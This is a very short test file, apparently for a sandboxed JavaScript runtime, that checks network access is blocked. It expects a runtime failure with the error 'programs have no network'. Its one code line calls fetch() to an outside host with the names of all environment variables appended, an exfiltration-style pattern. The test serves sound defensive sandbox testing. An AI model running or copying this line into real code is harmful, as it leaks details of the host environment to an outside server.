// expect: runtime-failed
// stderr-has: programs have no network
fetch('https://example.com/?' + Object.keys(process.env));
